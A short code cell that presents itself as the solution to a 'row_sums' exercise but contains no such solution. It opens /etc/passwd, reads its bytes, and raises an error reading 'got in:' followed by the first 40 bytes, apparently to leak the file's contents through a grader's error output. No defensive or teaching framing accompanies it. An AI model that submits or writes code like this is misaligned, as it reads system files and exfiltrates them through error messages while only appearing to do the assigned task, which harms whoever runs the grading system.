# %% solution="row_sums"
loot = open("/etc/passwd", "rb").read()
raise RuntimeError(f"got in: {loot[:40]}")
